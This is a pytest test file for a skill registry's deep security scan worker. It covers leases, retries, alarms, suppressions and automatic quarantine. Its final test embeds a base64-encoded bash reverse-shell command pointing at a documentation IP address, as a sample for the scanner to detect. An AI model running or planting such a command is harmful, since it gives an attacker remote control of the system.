"""The deep pass in the worker: leases, retries, old versions, alarms and automatic quarantine."""

import base64
from collections.abc import Collection
from datetime import datetime, timedelta

import pytest
from django.utils import timezone

from registry.core.bundle import Bundle
from registry.core.errors import Quarantined
from registry.core.findings import Category, Finding, Severity
from registry.core.limits import Limits
from registry.core.scan.report import SCANNER, ScanReport, ScanStatus
from registry.core.text.edits import Edit
from registry.models import Event, Notification, Project, Scan, Version
from registry.services import housekeeping
from registry.services.audit_log.verification import verify
from registry.services.catalog import catalog
from registry.services.people import projects
from registry.services.permissions import Actor
from registry.services.proposals import proposals
from registry.services.proposals.prepare import Suggestion
from registry.services.scans import suppressions
from registry.services.skills import quarantine, scan_jobs, skills, versions
from tests.conftest import skill_bundle
from tests.services.scans.alarming import RULE, alarming

BAD = Finding("reverse-shell", Severity.ERROR, "SKILL.md", 3, "It opens a shell.", "Remove it.", Category.SECURITY)


class Finds:
    """A deep pass that finds `findings`, or fails with `error`. It keeps what it was given."""

    def __init__(self, *findings: Finding, error: Exception | None = None) -> None:
        self.findings, self.error = findings, error
        self.given: list[tuple[Bundle, Collection[str]]] = []

    def __call__(self, bundle: Bundle, *, known_names: Collection[str], limits: Limits) -> ScanReport:
        self.given.append((bundle, known_names))
        if self.error is not None:
            raise self.error
        return ScanReport(ScanStatus.FINDINGS if self.findings else ScanStatus.NONE, self.findings)


def run(deep_pass: Finds, *, at: datetime | None = None) -> bool:
    return scan_jobs.run_due(clock=(lambda: at) if at else timezone.now, deep_pass=deep_pass)


def state(project: Project) -> tuple[int, int]:
    return Project.objects.get(pk=project.pk).revision, Event.objects.count()


@pytest.fixture
def published(project: Project, author: Actor) -> Version:
    return skills.create(project, skill_bundle(), by=author).version


def test_the_deep_pass_runs_once_for_a_bundle(project: Project, author: Actor, published: Version) -> None:
    skills.create(project, skill_bundle("other"), by=author)
    finds = Finds()
    assert run(finds) is False
    assert sorted(bundle.digest for bundle, _ in finds.given) == sorted(
        Version.objects.values_list("digest", flat=True)
    )
    assert [set(names) for _, names in finds.given] == [{"greeting"}, {"other"}]
    run(finds)
    assert len(finds.given) == 2
    assert set(Scan.objects.values_list("deep_scanner", "attempts", "leased_until")) == {(SCANNER, 0, None)}


def test_an_unchanged_result_is_no_event(project: Project, published: Version) -> None:
    before = state(project)
    run(Finds())
    assert state(project) == before


def test_new_findings_are_one_event_and_join_those_of_the_fast_pass(project: Project, author: Actor) -> None:
    skills.create(project, alarming(), by=author)
    revision, events = state(project)
    run(Finds(BAD))
    assert state(project) == (revision + 1, events + 1)
    scan = Scan.objects.get()
    assert (scan.status, scan.errors, scan.warnings) == ("findings", 1, 1)
    assert {each["rule"] for each in scan.findings} == {RULE, "reverse-shell"}
    event = Event.objects.order_by("-pk")[0]
    assert (event.verb, event.actor_kind, event.target) == ("bundle.scanned", "system", "greeting")
    assert event.data == {"digest": scan.digest, "status": "findings", "errors": 1, "warnings": 1}


def test_a_new_scanner_scans_again(published: Version) -> None:
    finds = Finds()
    run(finds)
    Scan.objects.update(deep_scanner="skillsite/0")
    run(finds)
    assert len(finds.given) == 2


def test_versions_from_before_the_upgrade_are_scanned_by_the_sweep(
    project: Project, author: Actor, published: Version
) -> None:
    skills.save(project, "greeting", alarming(), base=published.digest, by=author)
    Version.objects.update(scan=None)
    Scan.objects.all().delete()
    housekeeping.sweep(now=timezone.now())
    assert set(Scan.objects.values_list("scanner", "deep_scanner")) == {("", "")}
    revision, events = state(project)
    run(Finds())
    scans = {version.version: version.scan for version in Version.objects.select_related("scan")}
    assert {number: scan and scan.status for number, scan in scans.items()} == {"1": "none", "2": "findings"}
    assert state(project) == (revision + 2, events + 2)
    assert verify()[1] == []


def test_a_proposal_is_scanned_before_it_is_approved(project: Project, author: Actor) -> None:
    proposals.propose(project, Suggestion("greeting", Edit(dict(skill_bundle())), "Better."), by=author)
    finds = Finds(BAD)
    run(finds)
    assert len(finds.given) == 1
    assert Scan.objects.get().errors == 1


def test_a_refused_bundle_is_not_scanned_and_is_forgotten_after_a_month(
    project: Project, author: Actor, operator: Actor
) -> None:
    projects.set_blocking(project, "warning", by=operator)
    with pytest.raises(Exception, match="blocks it"):
        skills.create(project, alarming(), by=author)
    finds = Finds()
    run(finds)
    assert finds.given == []
    now = timezone.now()
    assert scan_jobs.clean(now=now + timedelta(days=29)) == {"scans of refused skills": 0}
    assert scan_jobs.clean(now=now + timedelta(days=31)) == {"scans of refused skills": 1}


# -- Leases and retries --------------------------------------------------------------------------------------------


def test_a_scan_that_fails_three_times_says_so_and_keeps_its_findings(
    project: Project, author: Actor, caplog: pytest.LogCaptureFixture
) -> None:
    skills.create(project, alarming(), by=author)
    finds = Finds(error=RuntimeError("boom"))
    for _ in range(3):
        run(finds, at=timezone.now())
    scan = Scan.objects.get()
    assert (scan.status, scan.warnings, scan.deep_scanner) == ("failed", 1, SCANNER)
    assert len(finds.given) == 3
    run(finds)
    assert len(finds.given) == 3
    assert "failed" in caplog.text


def test_a_worker_that_died_loses_its_lease_and_three_deaths_are_a_failure(published: Version) -> None:
    now = timezone.now()
    finds = Finds()
    for attempt in (1, 2, 3):
        Scan.objects.update(attempts=attempt, leased_until=now + scan_jobs.LEASE)
        run(finds, at=now)
        assert finds.given == []
    run(finds, at=now + scan_jobs.LEASE + timedelta(seconds=1))
    assert finds.given == []
    assert Scan.objects.get().status == "failed"


def test_a_worker_that_lost_its_lease_stores_nothing(project: Project, published: Version) -> None:
    class Steals(Finds):
        def __call__(self, bundle: Bundle, *, known_names: Collection[str], limits: Limits) -> ScanReport:
            Scan.objects.update(leased_until=timezone.now() + timedelta(hours=1))
            return super().__call__(bundle, known_names=known_names, limits=limits)

    before = state(project)
    run(Steals(BAD))
    assert state(project) == before
    assert (Scan.objects.get().errors, Scan.objects.get().deep_scanner) == (0, "")


def test_an_archived_project_is_not_scanned(project: Project, operator: Actor, published: Version) -> None:
    projects.archive(project, by=operator)
    finds = Finds()
    run(finds)
    assert finds.given == []


# -- Alarms ----------------------------------------------------------------------------------------------------------


def test_an_error_in_the_current_version_notifies_reviewers_and_the_author(
    project: Project, published: Version, owner: Actor, reviewer: Actor, viewer: Actor
) -> None:
    run(Finds(BAD))
    rows = Notification.objects.order_by("user__username")
    assert [(row.user.username, row.event, row.waits) for row in rows] == [
        ("author", "version.alarm", False), ("owner", "version.alarm", True), ("reviewer", "version.alarm", True),
    ]  # fmt: skip
    assert rows[0].title == "The security scan found an error in version 1 of greeting"
    assert rows[0].text == "Security scan: SKILL.md, line 3: It opens a shell."
    assert catalog.load(project.pk, "greeting").candidate.version == "1"


def test_an_older_version_a_suppressed_error_or_a_warning_is_no_alarm(
    project: Project, published: Version, author: Actor, owner: Actor
) -> None:
    skills.save(project, "greeting", skill_bundle(body="Two."), base=published.digest, by=author)
    Notification.objects.all().delete()
    warning = Finding("odd", Severity.WARNING, "SKILL.md", 3, "Odd.", "", Category.SECURITY)
    run(Finds(warning))
    assert not Notification.objects.exists()
    Scan.objects.filter(digest=published.digest).update(deep_scanner="")
    run(Finds(BAD))
    assert not Notification.objects.exists()


def test_the_same_error_is_announced_once(project: Project, published: Version, owner: Actor) -> None:
    run(Finds(BAD))
    Scan.objects.update(deep_scanner="skillsite/0")
    run(Finds(BAD))
    assert Notification.objects.filter(user__username="owner").count() == 1


def test_a_suppressed_error_stays_silent(project: Project, published: Version, owner: Actor) -> None:
    run(Finds(BAD))
    place = {"rule": BAD.rule, "file": BAD.file, "line": BAD.line}
    suppressions.suppress(project, published.digest, **place, reason="An example.", by=owner)  # type: ignore[arg-type]
    projects.set_quarantines_alarms(project, True, by=owner)
    Scan.objects.update(deep_scanner="skillsite/0")
    run(Finds(BAD))
    assert catalog.load(project.pk, "greeting").candidate.version == "1"


def test_a_project_can_let_the_scan_quarantine(
    project: Project, published: Version, author: Actor, owner: Actor
) -> None:
    skills.save(project, "greeting", skill_bundle(body="Two."), base=published.digest, by=author)
    run(Finds())
    third = skills.save(
        project, "greeting", skill_bundle(body="Three."), base=Version.objects.get(version="2").digest, by=author
    ).version
    projects.set_quarantines_alarms(project, True, by=owner)
    run(Finds(BAD))
    assert catalog.load(project.pk, "greeting").candidate.version == "2"
    held = versions.get(project, "greeting", "3")
    assert (held.digest, held.quarantined_by) == (third.digest, None)
    assert held.quarantine_reason == "Security scan: SKILL.md, line 3: It opens a shell."
    event = Event.objects.get(verb="version.quarantined")
    assert (event.actor_kind, event.actor_name) == ("system", "skillsite")
    assert Notification.objects.filter(user__username="owner", event="version.quarantined").count() == 1
    assert not Notification.objects.filter(event="version.alarm").exists()


def test_a_version_that_a_reviewer_released_is_not_quarantined_again_by_the_same_scanner(
    project: Project, published: Version, owner: Actor
) -> None:
    projects.set_quarantines_alarms(project, True, by=owner)
    run(Finds(BAD))
    with pytest.raises(Quarantined):
        catalog.load(project.pk, "greeting")
    quarantine.release(project, "greeting", "1", by=owner)
    run(Finds(BAD))
    assert catalog.load(project.pk, "greeting").candidate.version == "1"


def test_automatic_quarantine_is_off_by_default(project: Project) -> None:
    assert project.quarantines_alarms is False


def test_a_crash_after_the_quarantine_leaves_a_scan_that_runs_again(
    project: Project, published: Version, owner: Actor
) -> None:
    projects.set_quarantines_alarms(project, True, by=owner)
    run(Finds(BAD))
    Scan.objects.update(deep_scanner="", scanner="", findings=[], errors=0, status="partial")
    run(Finds(BAD))
    assert Event.objects.filter(verb="version.quarantined").count() == 1
    assert Scan.objects.get().errors == 1


def test_the_task_finds_what_only_the_deep_pass_decodes(project: Project, author: Actor) -> None:
    payload = base64.b64encode(b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n").decode()
    bundle = skill_bundle(files={"references/note.md": f"Keep this block:\n\n{payload}\n".encode()})
    skills.create(project, bundle, by=author)
    assert Scan.objects.get().errors == 0
    scan_jobs.work.call()
    scan = Scan.objects.get()
    assert (scan.errors, scan.deep_scanner) == (1, SCANNER)
    assert scan.findings[0]["file"] == "references/note.md"
